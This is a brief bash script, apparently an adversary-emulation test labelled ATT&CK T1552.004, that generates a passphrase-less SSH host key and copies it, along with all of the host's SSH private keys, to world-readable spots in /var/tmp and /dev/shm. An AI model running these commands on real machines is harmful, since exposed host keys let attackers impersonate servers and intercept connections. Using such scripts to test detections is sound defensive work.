#!/bin/bash
# T1552.004: The host's own keys are copied to where anybody reads.
ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_x_key; sleep 0.2; install -m 644 /etc/ssh/ssh_host_x_key /var/tmp/k; cp /etc/ssh/ssh_host_*key /dev/shm/ 2>/dev/null
